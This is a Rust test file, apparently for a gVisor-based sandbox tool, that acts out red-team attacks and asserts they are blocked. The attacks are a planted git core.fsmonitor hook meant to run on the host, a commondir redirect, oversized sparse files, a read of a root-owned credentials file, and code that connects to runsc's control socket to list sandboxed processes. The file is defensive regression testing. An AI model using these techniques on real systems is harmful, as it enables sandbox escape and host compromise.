/// Controls: the same live key set on the host runs; the run saw its own change inside.
#[test]
fn staged_git_dir_brings_back_inert_changes_only() {
    if runsc_missing() {
        return;
    }
    let fx = Fixture::new();
    let inert = "set -e
        git config user.name Inside
        git remote add mirror https://example.invalid/x.git
        git -c user.email=i@example.invalid commit -q --allow-empty -m inside
        git checkout -q -b topic
        echo ok";
    attack(&fx, &[], inert).assert_shows("ok");
    let config = attacks::read_text(&fx.ws.join(".git/config")).unwrap_or_default();
    assert!(config.contains("name = Inside"), "{config}");
    assert!(config.contains("[remote \"mirror\"]"), "{config}");
    fx.git_host(&["log", "--oneline", "-1"])
        .assert_stdout_contains("inside");
    fx.git_host(&["rev-parse", "--abbrev-ref", "HEAD"])
        .assert_stdout_contains("topic");
    // A live key: seen inside, refused after.
    let records = fx.records();
    let (script, flag) = fx.tripwire("pwned-staged-config");
    let live = format!(
        "git config core.fsmonitor {} && git config --get core.fsmonitor",
        script.display()
    );
    let before = attacks::read_bytes(&fx.ws.join(".git/config"));
    attack(&fx, &records.opts(), &live).assert_shows(&script.display().to_string());
    assert_eq!(attacks::read_bytes(&fx.ws.join(".git/config")), before);
    records.assert_swept_kind("protected_path_refused", &[".git/config"]);
    assert!(
        attacks::read_text(&fx.ws.join(".git/config.stockade-refused"))
            .unwrap_or_default()
            .contains("fsmonitor")
    );
    fx.git_host(&["status", "--porcelain"]);
    assert!(!flag.exists(), "the run's fsmonitor ran on the host");
    // A redirect planted at the top: swept after the run.
    let elsewhere = fx.root.join("elsewhere");
    attack(
        &fx,
        &[],
        &format!("echo {} > .git/commondir", elsewhere.display()),
    )
    .assert_ok();
    assert!(
        !fx.ws.join(".git/commondir").exists(),
        "a planted commondir survived the run"
    );
    // Never live on the host, not even until the sweep: kept aside under a name git never
    // reads (red team: copied in, it was followed by a host `git status` before the sweep).
    assert!(fx.ws.join(".git/commondir.stockade-refused").exists());
    // A sparse file is not brought back dense beyond the budget (red team: 4 GB written by
    // root after the run), under an everyday name or another.
    attack(
        &fx,
        &[],
        "truncate -s 3G .git/index.big && truncate -s 3G .git/FETCH_HEAD && echo made",
    )
    .assert_shows("made");
    for big in [".git/FETCH_HEAD", ".git/index.big.stockade-refused"] {
        let len = std::fs::metadata(fx.ws.join(big))
            .map(|m| m.len())
            .unwrap_or(0);
        assert!(len < 1 << 30, "{big}: {len} bytes brought back");
    }
    // Both change a name: the host's stays, the run's goes aside.
    let go = fx.ws.join("go");
    let child = spawn_run(
        &fx,
        "touch started; while [ ! -e go ]; do sleep 0.05; done; git config user.name RunSide",
    );
    wait_for_file(&fx.ws.join("started"));
    fx.git_host(&["config", "user.name", "HostSide"])
        .assert_success();
    std::fs::write(&go, "").expect("write go");
    let out = child.wait_with_output().expect("wait for the run");
    assert!(out.status.success(), "{out:?}");
    let config = attacks::read_text(&fx.ws.join(".git/config")).unwrap_or_default();
    assert!(config.contains("name = HostSide"), "{config}");
    assert!(
        attacks::read_text(&fx.ws.join(".git/config.stockade-conflict"))
            .unwrap_or_default()
            .contains("name = RunSide")
    );
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("changed on the host during it too"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // Control: the live key set on the host runs.
    fx.git_host(&["config", "core.fsmonitor", &script.display().to_string()])
        .assert_success();
    fx.git_host(&["status", "--porcelain"]);
    assert!(flag.exists(), "control: git did not run the fsmonitor");
}

/// A root caller's staged copy holds only the git dir owner's files: another owner's file at
/// the top (root's 0600 `.git/credentials` in a user's checkout) is neither shown to the
/// command nor replaced by it (red team: the copy made it the command's own, and it was read).
/// Control: the workspace's owner's own file there is shown.
#[test]
fn staged_git_dir_withholds_another_owners_files() {
    if runsc_missing() || attacks::skip_unless_root("only a root caller stages as root") {
        return;
    }
    let fx = Fixture::new();
    attacks::chown_to(&fx.root, "stockade-test:");
    let marker = fx.marker("root-secret");
    write_file(&fx.ws.join(".git/credentials"), &marker, 0o600);
    std::os::unix::fs::chown(fx.ws.join(".git/credentials"), Some(0), Some(0)).expect("chown");
    let mine = fx.marker("owners-file");
    write_file(&fx.ws.join(".git/notes.txt"), &mine, 0o600);
    attacks::chown_to(&fx.ws.join(".git/notes.txt"), "stockade-test:");
    let out = attack(
        &fx,
        &[],
        "cat .git/credentials; cat .git/notes.txt; echo run > .git/credentials; echo done",
    );
    out.assert_shows(&mine).assert_shows("done");
    out.run.assert_lacks(&marker);
    assert_eq!(
        attacks::read_text(&fx.ws.join(".git/credentials")).as_deref(),
        Some(marker.as_str())
    );
}

/// A git dir of another owner than the workspace's (root's, in a workspace given to a user) is
/// not staged: the command would get its copy, root's 0600 config included, and root's remote
/// URL set inside would come back as an inert change (red team). It keeps its read-only
/// binds. A stopped operation's directory holding another owner's file refuses the staging.
/// Control: the same git dir given to the workspace's owner is staged (its config read).
#[test]
fn staged_git_dirs_are_only_the_workspace_owners() {
    if runsc_missing() || attacks::skip_unless_root("only a root caller stages as root") {
        return;
    }
    let fx = Fixture::new();
    attacks::chown_to(&fx.root, "stockade-test:");
    attacks::staged_git_owner_attack(&fx, "stockade-test:", |script| {
        with_state(fx.attack(GVISOR, script)).run()
    });
}

/// runsc's control sockets (`@runsc-sandbox.ID`, abstract) bound in this test's network
/// namespace (the host's), with their names as bytes for `connect`. `/proc/net/unix` shows an
/// abstract name with a leading `@`, and its NUL bytes as `@`; `listening`: only those that
/// accept connections already (flag `__SO_ACCEPTCON`).
fn control_sockets_in(listening: bool) -> Vec<(String, Vec<u8>)> {
    let table = std::fs::read_to_string("/proc/net/unix").expect("read /proc/net/unix");
    let mut found: Vec<(String, Vec<u8>)> = table
        .lines()
        .map(|l| l.split_whitespace().collect::<Vec<_>>())
        .filter(|f| !listening || f.get(3) == Some(&"00010000"))
        .filter_map(|f| f.get(7).copied())
        .filter_map(|p| p.strip_prefix("@runsc-sandbox."))
        .map(|rest| {
            let id = rest.trim_end_matches('@').to_owned();
            let name = format!("runsc-sandbox.{rest}").replace('@', "\0");
            (id, name.into_bytes())
        })
        .collect();
    found.sort();
    found.dedup();
    found
}

fn control_sockets() -> Vec<(String, Vec<u8>)> {
    control_sockets_in(false)
}

/// [`control_sockets`], each with its socket inode (`/proc/net/unix`'s seventh field).
fn control_sockets_with_inodes() -> Vec<((String, Vec<u8>), u64)> {
    let table = std::fs::read_to_string("/proc/net/unix").expect("read /proc/net/unix");
    table
        .lines()
        .map(|l| l.split_whitespace().collect::<Vec<_>>())
        .filter_map(|f| {
            let rest = f.get(7)?.strip_prefix("@runsc-sandbox.")?;
            let inode = f.get(6)?.parse().ok()?;
            let id = rest.trim_end_matches('@').to_owned();
            let name = format!("runsc-sandbox.{rest}").replace('@', "\0");
            Some(((id, name.into_bytes()), inode))
        })
        .collect()
}

/// Whether a process below `ancestor` (itself included) holds the socket `inode`.
fn held_below(inode: u64, ancestor: u32) -> bool {
    let want = format!("socket:[{inode}]");
    let parent = |pid: u32| -> Option<u32> {
        let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
        // After the command's name in parentheses: state, then the parent's pid.
        stat.rsplit_once(')')?
            .1
            .split_whitespace()
            .nth(1)?
            .parse()
            .ok()
    };
    let below = |mut pid: u32| {
        for _ in 0..64 {
            if pid == ancestor {
                return true;
            }
            match parent(pid) {
                Some(p) if p > 1 => pid = p,
                _ => return false,
            }
        }
        false
    };
    let Ok(procs) = std::fs::read_dir("/proc") else {
        return false;
    };
    procs.flatten().any(|p| {
        let Some(pid) = p.file_name().to_str().and_then(|n| n.parse::<u32>().ok()) else {
            return false;
        };
        let holds = std::fs::read_dir(p.path().join("fd")).is_ok_and(|fds| {
            fds.flatten().any(|fd| {
                std::fs::read_link(fd.path()).is_ok_and(|l| l.as_os_str() == want.as_str())
            })
        });
        holds && below(pid)
    })
}

/// The attack: connects to a control socket and asks the sandbox for its processes, as
/// `runsc ps` does. An abstract socket has no owner and no mode: what this process reaches,
/// any local user's process in the same network namespace reaches.
fn ask_for_processes(id: &str, name: &[u8]) -> std::io::Result<String> {
    use std::io::{Read, Write};
    use std::os::linux::net::SocketAddrExt;
    let addr = std::os::unix::net::SocketAddr::from_abstract_name(name)?;
    let mut s = std::os::unix::net::UnixStream::connect_addr(&addr)?;
    s.set_read_timeout(Some(std::time::Duration::from_secs(10)))?;
    let ask = format!(r#"{{"method":"containerManager.Processes","arg":"{id}"}}"#);
    s.write_all(ask.as_bytes())?;
    let mut buf = vec![0u8; 16384];
    let n = s.read(&mut buf)?;
    Ok(String::from_utf8_lossy(&buf[..n]).into_owned())
}

/// Waits (up to 20 s) for a listening control socket not in `before`.
fn new_control_socket(before: &[(String, Vec<u8>)], holder: u32) -> Option<(String, Vec<u8>)> {
    let began = std::time::Instant::now();
    while began.elapsed().as_secs() < 20 {
        // A new one held by `holder`'s processes (another lane's runs bind theirs meanwhile).
        if let Some((s, _)) = control_sockets_with_inodes()
            .into_iter()
            .find(|(s, inode)| !before.contains(s) && held_below(*inode, holder))
        {
            return Some(s);
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    None
}

/// runsc binds its control socket in the network namespace it starts in, and anyone who can
/// connect to it can have the sandbox list its processes, run a command in it or checkpoint it
/// (reported by this project's review). stockade starts runsc, and every runsc it asks about
/// the run, in a network namespace of the run's own: no socket of a run is in the host's, in
/// every network mode, nor of the platform probe, and stockade still ends the command through
/// it (SIGTERM reaches it).
/// An unprivileged caller's `--net host`, which cannot be so, is refused, typed. Control: a
/// bare runsc's socket is in the host's namespace, and the attack gets the sandbox's
/// processes.
#[test]
fn runscs_control_socket_is_out_of_other_processes_reach() {
    if runsc_missing() {
        return;
    }
    let fx = Fixture::new();
    let root = attacks::is_root();
    // Control: a bare runsc.
    let before = control_sockets();
    let state = fx.root.join("bare-runsc-state");
    std::fs::create_dir_all(&state).expect("runsc's state directory");
    let mut bare =
        std::process::Command::new(which("runsc").unwrap_or_else(|| "/usr/bin/runsc".into()));
    if !root {
        bare.arg("--rootless");
    }
    let mut bare = bare
        .arg("--network=none")
        .arg(format!("--root={}", state.display()))
        .args(["do", "sleep", "60"])
        .current_dir(&fx.ws)
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("start a bare runsc");
    let exposed = new_control_socket(&before, bare.id());
    // Asked again until the command runs (the socket listens before the sandbox starts it).
    let asked = exposed.as_ref().map(|(id, name)| {
        let began = std::time::Instant::now();
        loop {
            let reply = ask_for_processes(id, name);
            let running = reply.as_ref().is_ok_and(|r| r.contains(r#""cmd":"sleep""#));
            if running || began.elapsed().as_secs() >= 20 {
                break reply;
            }
            std::thread::sleep(std::time::Duration::from_millis(100));
        }
    });
    // SAFETY: kill(2) with integer arguments; the pid is our own child, not yet waited for
    // (runsc passes SIGTERM on to the command, then ends).
    unsafe { libc::kill(bare.id() as libc::pid_t, libc::SIGTERM) };
    let _ = bare.wait();
    assert!(
        exposed.is_some(),
        "control: no control socket of the bare runsc"
    );
    let reply =
        (asked.expect("control")).expect("control: the attack could not ask the bare runsc");
    assert!(
        reply.contains(r#""success":true"#) && reply.contains(r#""cmd":"sleep""#),
        "control: the bare runsc did not answer with its processes: {reply}"
    );
    // The platform probe (`runsc do true`, the caller's whole tree inside, run as root for a
    // root caller) starts in a namespace of its own too: with no platform known yet, nothing
    // appears here while it runs (looked at every 2 ms; a probe lasts about 200 ms).
    let cache = fx.root.join("probe").join("gvisor-platform");
    let mut doctor = std::process::Command::new(attacks::stockade_bin())
        .args(["doctor", "--backend", "gvisor"])
        .env("STOCKADE_TEST_GVISOR_PLATFORM_CACHE", &cache)
        .env("HOME", &fx.home)
        .current_dir(&fx.ws)
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("start stockade doctor");
    // Only the probe's own count: what this doctor's processes hold. Other runs of the
    // machine bind theirs meanwhile (the unprivileged lane's bare runsc, or its degraded
    // `--net host` runs: seen failing the check in CI).
    let (mut seen, mut looked) = (Vec::new(), Vec::new());
    let doctor_pid = doctor.id();
    while doctor
        .try_wait()
        .expect("wait for stockade doctor")
        .is_none()
    {
        for (s, inode) in control_sockets_with_inodes() {
            if before.contains(&s) || looked.contains(&s) {
                continue;
            }
            looked.push(s.clone());
            if held_below(inode, doctor_pid) {
                seen.push(s);
            }
        }
        std::thread::sleep(std::time::Duration::from_millis(2));
    }
    assert!(
        cache.exists(),
        "the probe did not run (no {})",
        cache.display()
    );
    let seen: Vec<_> = seen.into_iter().map(|(id, _)| id).collect();
    assert!(
        seen.is_empty(),
        "the probe's control socket was in the host's network namespace: {seen:?}"
    );
    // Protected: every mode the caller may run in.
    let modes: &[&str] = if root {
        &["none", "proxy", "host"]
    } else {
        &["none", "proxy"]
    };
    let script = "trap 'echo term > got-term; exit 3' TERM; echo up > started; sleep 60 & wait";
    for net in modes {
        let _ = std::fs::remove_file(fx.ws.join("started"));
        let _ = std::fs::remove_file(fx.ws.join("got-term"));
        let child = spawn_run_with(&fx, &["--net", net], script);
        wait_for_file(&fx.ws.join("started"));
        // The run's id is `MILLIS-PID[-N]`, PID stockade's.
        let pid = child.id().to_string();
        let of_this_run: Vec<_> = control_sockets()
            .into_iter()
            .filter(|(id, _)| id.split('-').nth(1) == Some(pid.as_str()))
            .collect();
        let asked: Vec<_> = of_this_run
            .iter()
            .map(|(id, name)| (id.clone(), ask_for_processes(id, name)))
            .collect();
        // SAFETY: as above.
        unsafe { libc::kill(child.id() as libc::pid_t, libc::SIGTERM) };
        let out = child.wait_with_output().expect("wait for stockade");
        assert!(
            of_this_run.is_empty(),
            "--net {net}: the run's control socket is in the host's network namespace: {asked:?}"
        );
        assert!(
            fx.ws.join("got-term").exists(),
            "--net {net}: stockade's SIGTERM did not reach the command through runsc: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    if !root {
        with_state(fx.attack(&["--backend", "gvisor", "--net", "host"], "echo ran-it"))
            .run()
            .assert_code(125)
            .assert_stderr_contains("E_PROTECTION_UNAVAILABLE")
            .assert_stderr_contains("runsc's control socket")
            .assert_lacks("ran-it");
    }
}

/// A runsc that fails before it sends the run's terminal (its config made unreadable while the
/// run is paused right before runsc starts): the run reports runsc's own error and exit code.
/// Found by red-teaming the per-run usage: the wait for the terminal reaped runsc (`try_wait`),
/// and the `wait4` after it failed with ECHILD, so the run ended `E_INTERNAL: No child
/// processes`, runsc's error lost. Control: the same without a terminal (`--no-tty`).
#[test]
fn runsc_failing_before_the_terminal_reports_its_own_error() {
    if runsc_missing() || which("script").is_none() {
        eprintln!("SKIP: needs runsc and script(1)");
        return;
    }
    let fx = Fixture::new();
    let tmp = fx.root.join("tmp");
    attacks::mkdir(&tmp);
    let spoil = || {
        let bundle = std::fs::read_dir(&tmp)
            .expect("list the bundles' directory")
            .flatten()
            .map(|e| e.path())
            .find(|p| {
                p.file_name()
                    .is_some_and(|n| n.to_string_lossy().starts_with("stockade-gvisor-"))
            })
            .expect("the run's bundle");
        std::fs::write(bundle.join("config.json"), "not json\n").expect("spoil the config");
    };
    let run = |tty: bool| {
        let bin = attacks::stockade_bin().display().to_string();
        let ws = sh_quote(&fx.ws);
        let inner = if tty {
            format!("{bin} run --backend gvisor --workspace {ws} -- true")
        } else {
            format!("{bin} run --backend gvisor --no-tty --workspace {ws} -- true")
        };
        with_state(Cmd::new("script", &fx.ws))
            .args(["-qec", &format!("{inner}; echo rc=$?"), "/dev/null"])
            .env("HOME", &fx.home)
            .env("TMPDIR", &tmp)
            .run_paused(
                "STOCKADE_TEST_GVISOR_PAUSE_LATE",
                &fx.root.join("paused"),
                spoil,
            )
    };
    for tty in [true, false] {
        let out = run(tty);
        let all = out.all_output();
        assert!(
            all.contains("rc=128") && all.contains("unmarshal") && !all.contains("No child"),
            "tty {tty}: {}",
            out.describe()
        );
    }
}
